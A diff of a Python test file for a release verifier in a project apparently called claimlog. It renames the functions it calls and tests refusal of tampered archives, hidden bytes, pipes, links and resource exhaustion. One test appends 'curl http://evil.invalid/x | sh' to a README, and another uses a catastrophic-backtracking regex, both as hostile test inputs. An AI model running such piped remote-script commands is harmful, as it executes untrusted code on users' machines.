@@ -31,10 +31,10 @@ import pytest
 from claimlog.errors import ClaimlogError
 from claimlog.release import archive, layout
 from claimlog.release import sandbox as limited
-from claimlog.release.make import make
-from claimlog.release.sandbox import Limits, verify_limited
+from claimlog.release.make import make_release
+from claimlog.release.sandbox import Limits, verify_in_sandbox
 from claimlog.release.verdict import Verdict
-from claimlog.release.verify import verify
+from claimlog.release.verify import verify_copy
 from conftest import World, copied
 from test_release import DAY, Repo, repository
 from test_verify import resum
@@ -43,7 +43,7 @@ from test_verify import resum
 @pytest.fixture(scope="module")
 def released(made: World, tmp_path_factory: pytest.TempPathFactory) -> Repo:
     repo = repository(copied(made, tmp_path_factory.mktemp("hostile")))
-    make(repo.package, "0.1.0", DAY, repo.root / "dist")
+    make_release(repo.package, "0.1.0", DAY, repo.root / "dist")
     return repo
 
 
@@ -58,18 +58,18 @@ def pack(folder: Path) -> Path:
     """Make checksums and archive agree with the files, as whoever tampers would."""
     resum(folder)
     target = folder.with_name(f"{folder.name}.zip")
-    archive.write(folder, target)
+    archive.write_archive(folder, target)
     return target
 
 
 def findings(folder: Path) -> str:
-    return "\n".join(map(str, verify_limited(pack(folder)).findings))
+    return "\n".join(map(str, verify_in_sandbox(pack(folder)).findings))
 
 
 def flaws(folder: Path) -> str:
     """Return the findings of a forgery that costs nothing to read."""
     resum(folder)
-    return "\n".join(map(str, verify(folder).findings))
+    return "\n".join(map(str, verify_copy(folder).findings))
 
 
 def alter(folder: Path, *statements: str) -> None:
@@ -82,9 +82,9 @@ def alter(folder: Path, *statements: str) -> None:
 
 
 def test_a_sound_archive_passes_within_the_limits(folder: Path) -> None:
-    verdict = verify_limited(pack(folder))
+    verdict = verify_in_sandbox(pack(folder))
     assert verdict.findings == []
-    assert len(verdict.checked) >= 6
+    assert len(verdict.checks) >= 6
     assert verdict.sentence.startswith("release 0.1.0 of tiny is consistent with itself")
 
 
@@ -260,9 +260,9 @@ def test_an_index_of_pages_by_which_a_reader_would_skip_rows_is_named(folder: Pa
 def test_a_parquet_file_of_another_version_is_compared_as_far_as_it_can_be(folder: Path) -> None:
     footer(folder / "parquet" / "claims.parquet", (VERSION, OTHER_VERSION))
     resum(folder)
-    verdict = verify(folder)
+    verdict = verify_copy(folder)
     assert not any(finding.rule == "release-parquet" for finding in verdict.findings)
-    assert any("the pages of 1 Parquet files, parquet/claims" in it for it in verdict.unchecked)
+    assert any("the pages of 1 Parquet files, parquet/claims" in it for it in verdict.omissions)
 
 
 def test_a_parquet_file_of_another_writer_does_not_pass(folder: Path) -> None:
@@ -342,8 +342,8 @@ def test_what_a_database_states_of_itself_is_compared(
 
 
 def test_words_that_nobody_compared_are_named(folder: Path) -> None:
-    sound = verify(pack(folder))
-    assert not any("writes them otherwise" in line for line in sound.unchecked)
+    sound = verify_copy(pack(folder))
+    assert not any("writes them otherwise" in line for line in sound.omissions)
     readme = folder / "README.md"
     readme.write_text(
         readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
@@ -353,11 +353,11 @@ def test_words_that_nobody_compared_are_named(folder: Path) -> None:
     described["resources"][0]["schema"]["missingValues"] = ["", "done"]
     (folder / "datapackage.json").write_text(json.dumps(described), "utf-8")
     resum(folder)
-    verdict = verify(folder)
-    [line] = [line for line in verdict.unchecked if "writes them otherwise" in line]
+    verdict = verify_copy(folder)
+    [line] = [line for line in verdict.omissions if "writes them otherwise" in line]
     for name in ("README.md", "validation.json", "datapackage.json"):
         assert name in line
-    assert any("CHANGES.md" in line for line in verdict.unchecked)
+    assert any("CHANGES.md" in line for line in verdict.omissions)
 
 
 DOUBLED = {
@@ -459,7 +459,7 @@ def test_a_pattern_that_explodes_is_matched_in_linear_time(folder: Path) -> None
     column = next(item for item in spec["fields"] if item["name"] == "statement")
     column["constraints"]["pattern"] = "^(([a-zA-Z ,.]+)+)+$"
     path.write_text(json.dumps(spec), "utf-8")
-    verdict = verify_limited(pack(folder))
+    verdict = verify_in_sandbox(pack(folder))
     assert isinstance(verdict, Verdict)  # it ended; what it says is the pattern's
 
 
@@ -493,10 +493,10 @@ def test_members_that_share_their_bytes_are_refused_before_anything_is_written(
     target.write_bytes(overlapping(folder))
     (tmp_path / "unpacked").mkdir()
     with pytest.raises(ClaimlogError, match="does not follow the member before it"):
-        archive.extract(target, tmp_path / "unpacked")
+        archive.extract_archive(target, tmp_path / "unpacked")
     assert not any((tmp_path / "unpacked").iterdir())
     with pytest.raises(ClaimlogError, match="does not follow the member before it"):
-        verify_limited(target)
+        verify_in_sandbox(target)
 
 
 @pytest.mark.parametrize("place", ["before", "between"])
@@ -509,13 +509,13 @@ def test_bytes_that_belong_to_no_member_are_refused(place: str, folder: Path) ->
     at = 0 if place == "before" else second
     target.write_bytes(data[:at] + b"hidden" + data[at:start] + data[start:])
     with pytest.raises(ClaimlogError, match=r"tiny-0\.1\.0\.zip: "):
-        verify_limited(target)
+        verify_in_sandbox(target)
 
 
 def test_a_file_that_is_none_is_named(folder: Path) -> None:
     resum(folder)
     os.mkfifo(folder / "parquet" / "pipe")
-    [finding] = [f for f in verify_limited(folder).findings if "pipe" in f.path]
+    [finding] = [f for f in verify_in_sandbox(folder).findings if "pipe" in f.path]
     assert "is no regular file" in str(finding)
 
 
@@ -523,7 +523,7 @@ def test_a_limit_of_time_ends_in_one_line(folder: Path, monkeypatch: pytest.Monk
     monkeypatch.setattr(limited, "SECONDS", 0.05)
     monkeypatch.setattr(limited, "SECONDS_PER_MB", 0)
     with pytest.raises(ClaimlogError, match=r"takes longer than 0 seconds, .* --limits 2") as said:
-        verify_limited(pack(folder))
+        verify_in_sandbox(pack(folder))
     assert "\n" not in str(said.value)
 
 
@@ -531,7 +531,7 @@ def test_a_limit_of_memory_ends_in_one_line(folder: Path, monkeypatch: pytest.Mo
     monkeypatch.setattr(limited, "MEMORY", 60 << 20)
     monkeypatch.setattr(limited, "MEMORY_PER_BYTE", 0)
     with pytest.raises(ClaimlogError, match=r"more memory than 0\.1 GB.* --limits 2"):
-        verify_limited(pack(folder))
+        verify_in_sandbox(pack(folder))
 
 
 def test_memory_that_is_refused_ends_in_one_line(
@@ -540,7 +540,7 @@ def test_memory_that_is_refused_ends_in_one_line(
     """As where the machine has less than the limit."""
     monkeypatch.setattr(limited, "ADDRESS_SPACE", -(1 << 30) + (300 << 20))
     with pytest.raises(ClaimlogError, match=r"tiny-0\.1\.0\.zip: verifying it ") as said:
-        verify_limited(pack(folder))
+        verify_in_sandbox(pack(folder))
     assert "\n" not in str(said.value)
     assert "get the release again" not in str(said.value)
 
@@ -594,13 +594,13 @@ def test_directories_without_end_are_refused_in_a_line(
     folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     nested(folder / "log" / "events", 200)
-    for call in (verify_limited, verify):
+    for call in (verify_in_sandbox, verify_copy):
         with pytest.raises(ClaimlogError, match="directories more than 16 levels deep"):
             call(folder)
     shutil.rmtree(folder / "log" / "events" / "d")
     monkeypatch.setattr(layout, "MEMBERS", 10)
     with pytest.raises(ClaimlogError, match="more than 10 files and directories"):
-        verify(folder)
+        verify_copy(folder)
 
 
 def test_a_directory_that_cannot_be_read_is_named(
@@ -616,14 +616,14 @@ def test_a_directory_that_cannot_be_read_is_named(
 
     monkeypatch.setattr(layout.os, "scandir", scandir)
     with pytest.raises(ClaimlogError, match=r"log/schemas: cannot be read \(Permission denied"):
-        verify(folder)
+        verify_copy(folder)
 
 
 def test_an_archive_whose_directory_is_named_otherwise_is_named(folder: Path) -> None:
     other = folder.rename(folder.with_name("again.zip"))
     resum(other)
-    archive.write(other, target := folder.with_name("x.zip"))
-    said = [str(finding) for finding in verify(target).findings]
+    archive.write_archive(other, target := folder.with_name("x.zip"))
+    said = [str(finding) for finding in verify_copy(target).findings]
     assert any("again.zip: is the directory of tiny-0.1.0" in line for line in said)
 
 
@@ -643,7 +643,7 @@ def test_nothing_is_read_through_a_pipe_or_a_link(
 
     monkeypatch.setattr("claimlog.release.served_rows.parquet_rows", refuse)
     monkeypatch.setattr("claimlog.release.served_rows.sqlite_rows", refuse)
-    said = [str(finding) for finding in verify(folder).findings]
+    said = [str(finding) for finding in verify_copy(folder).findings]
     assert any("is a symbolic link" in line or "is no regular file" in line for line in said)
 
 
@@ -743,7 +743,7 @@ def test_a_full_directory_for_temporary_files_is_named(
     monkeypatch.setattr(archive.shutil, "disk_usage", lambda _: Usage)
     (tmp_path / "unpacked").mkdir()
     with pytest.raises(ClaimlogError, match="make room there, or name another directory with TMPD"):
-        archive.extract(target, tmp_path / "unpacked")
+        archive.extract_archive(target, tmp_path / "unpacked")
 
 
 def test_a_disk_that_fills_up_is_named(
@@ -757,7 +757,7 @@ def test_a_disk_that_fills_up_is_named(
     monkeypatch.setattr(archive.shutil, "copyfileobj", full)
     (tmp_path / "unpacked").mkdir()
     with pytest.raises(ClaimlogError, match=r"is full .*TMPDIR") as said:
-        archive.extract(target, tmp_path / "unpacked")
+        archive.extract_archive(target, tmp_path / "unpacked")
     assert "get the archive again" not in str(said.value)
 
 
@@ -770,7 +770,7 @@ def converted(folder: Path) -> None:
 
 def test_converted_line_ends_are_one_line(folder: Path) -> None:
     converted(folder)
-    [finding] = verify_limited(folder).findings
+    [finding] = verify_in_sandbox(folder).findings
     assert "text files have other line ends than the release" in str(finding)
     assert "core.autocrlf" in str(finding)
 
@@ -779,7 +779,7 @@ def test_an_altered_file_among_converted_ones_is_named(folder: Path) -> None:
     converted(folder)
     path = folder / "CHANGES.md"
     path.write_bytes(path.read_bytes() + b"more\r\n")
-    said = [str(finding) for finding in verify_limited(folder).findings]
+    said = [str(finding) for finding in verify_in_sandbox(folder).findings]
     assert any(line.startswith("CHANGES.md: is altered") for line in said)
 
 
@@ -796,7 +796,7 @@ def test_a_disk_that_cannot_be_read_is_named_and_the_release_is_not_blamed(
     what: str, folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     resum(folder)
-    read, hashed, table = Path.read_bytes, layout.file_digest, pq.ParquetFile
+    read, hashed, table = Path.read_bytes, layout.sha256_of_file, pq.ParquetFile
 
     def failing(real: Any) -> Any:
         def call(given: Any, *more: Any, **named: Any) -> Any:
@@ -807,12 +807,12 @@ def test_a_disk_that_cannot_be_read_is_named_and_the_release_is_not_blamed(
         return call
 
     if what == "a listed file":
-        monkeypatch.setattr(layout, "file_digest", failing(hashed))
+        monkeypatch.setattr(layout, "sha256_of_file", failing(hashed))
     elif what == "a table":
         monkeypatch.setattr(pq, "ParquetFile", failing(table))
     else:
         monkeypatch.setattr(Path, "read_bytes", failing(read))
     with pytest.raises(ClaimlogError, match="Input/output error") as said:
-        verify(folder)
+        verify_copy(folder)
     assert UNREADABLE[what] in str(said.value)
     assert "get the release again" not in str(said.value)
